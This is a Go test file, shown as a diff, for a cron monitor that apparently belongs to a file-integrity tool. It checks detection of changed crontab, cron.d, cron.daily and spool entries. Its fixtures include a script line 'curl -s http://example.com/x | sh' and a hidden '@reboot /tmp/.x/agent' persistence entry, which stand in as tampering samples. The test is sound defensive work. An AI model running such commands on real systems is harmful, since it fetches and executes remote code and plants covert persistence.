@@ -0,0 +1,112 @@
+package pkg
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestCronChanges(t *testing.T) {
+	dir, err := ioutil.TempDir("", "bpfink_cron")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	crontab := filepath.Join(dir, "crontab")
+	cronD, daily, spool := filepath.Join(dir, "cron.d"), filepath.Join(dir, "cron.daily"), filepath.Join(dir, "crontabs")
+	for _, d := range []string{cronD, daily, spool} {
+		if err := os.Mkdir(d, 0700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write := func(file, content string) {
+		if err := ioutil.WriteFile(file, []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(crontab, `# comment
+SHELL=/bin/sh
+PATH = "/usr/sbin:/usr/bin"
+17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
+`)
+	write(filepath.Join(cronD, "backup"), "0 3 * * * backup /usr/local/bin/backup --full\n")
+	write(filepath.Join(daily, "logrotate"), "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n")
+	listener := NewCronListener(func(l *CronListener) {
+		l.Crontab, l.Dirs, l.Scripts, l.Spools = crontab, []string{cronD}, []string{daily}, []string{spool}
+	})
+
+	old, files, err := listener.parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{crontab, filepath.Join(cronD, "backup"), filepath.Join(daily, "logrotate")}; !reflect.DeepEqual(files, want) {
+		t.Errorf("parse want files: %v, got: %v", want, files)
+	}
+	wantJobs := []CronJob{
+		{File: crontab, User: "root", Schedule: "17 * * * *", Command: "cd / && run-parts --report /etc/cron.hourly"},
+		{File: filepath.Join(cronD, "backup"), User: "backup", Schedule: "0 3 * * *", Command: "/usr/local/bin/backup --full"},
+	}
+	if len(old.Jobs) != 3 || !reflect.DeepEqual(old.Jobs[:2], wantJobs) || old.Jobs[2].Schedule != "@daily" || old.Jobs[2].Digest == "" {
+		t.Errorf("parse want jobs: %v and the logrotate script, got: %v", wantJobs, old.Jobs)
+	}
+	if want := []string{crontab + ": SHELL=/bin/sh", crontab + ": PATH=/usr/sbin:/usr/bin"}; !reflect.DeepEqual(old.Env, want) {
+		t.Errorf("parse want env: %q, got: %q", want, old.Env)
+	}
+
+	write(filepath.Join(cronD, "backup"), "*/5 * * * * backup /usr/local/bin/backup --full\n")
+	write(filepath.Join(daily, "logrotate"), "#!/bin/sh\ncurl -s http://example.com/x | sh\n")
+	write(filepath.Join(spool, "alice"), "# DO NOT EDIT THIS FILE\nMAILTO=\"\"\n@reboot /tmp/.x/agent\n")
+	new, files, err := listener.parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(files) != 4 || files[2] != filepath.Join(spool, "alice") {
+		t.Errorf("parse want the spool file followed, got: %v", files)
+	}
+	add, del := cronDiff(old, new)
+	want := []string{
+		filepath.Join(spool, "alice") + ": MAILTO= set",
+		"alice job added in " + filepath.Join(spool, "alice") + ": @reboot /tmp/.x/agent",
+		"backup job changed in " + filepath.Join(cronD, "backup") + ": /usr/local/bin/backup --full, schedule changed from 0 3 * * * to */5 * * * *",
+		"root job changed in " + filepath.Join(daily, "logrotate") + ": @daily " + filepath.Join(daily, "logrotate") + ", content modified",
+	}
+	if changes := cronChanges(add, del); !reflect.DeepEqual(changes, want) {
+		t.Errorf("cronChanges want: %q, got: %q", want, changes)
+	}
+	add, del = cronDiff(new, old)
+	if changes := cronChanges(add, del); len(changes) != 4 || changes[1] != "alice job removed in "+filepath.Join(spool, "alice")+": @reboot /tmp/.x/agent" {
+		t.Errorf("cronChanges want the reverse diff, got: %q", changes)
+	}
+}
+
+func TestCronWithoutCrontab(t *testing.T) {
+	spool, err := ioutil.TempDir("", "bpfink_cron")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(spool)
+	alice := filepath.Join(spool, "alice")
+	if err := ioutil.WriteFile(alice, []byte("@reboot /usr/bin/true\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	db, closeDB := openTestDB(t)
+	defer closeDB()
+	// the state of spools alone is kept under the path of the spool
+	state := func() *CronState {
+		state := &CronState{CronListener: NewCronListener(func(l *CronListener) { l.Spools = []string{spool} })}
+		if err := (&BaseConsumer{AgentDB: db, ParserLoader: state}).Init(); err != nil {
+			t.Fatal(err)
+		}
+		return state
+	}
+
+	if first := state(); first.key() != spool || len(first.Files()) != 2 {
+		t.Fatalf("want the spool watched without crontab, got: %s %q", first.key(), first.Files())
+	}
+	cron, err := db.LoadCron(spool)
+	if err != nil || len(cron.Jobs) != 1 || cron.Jobs[0].File != alice {
+		t.Errorf("want the jobs of the spool saved, got: %+v, %v", cron, err)
+	}
+}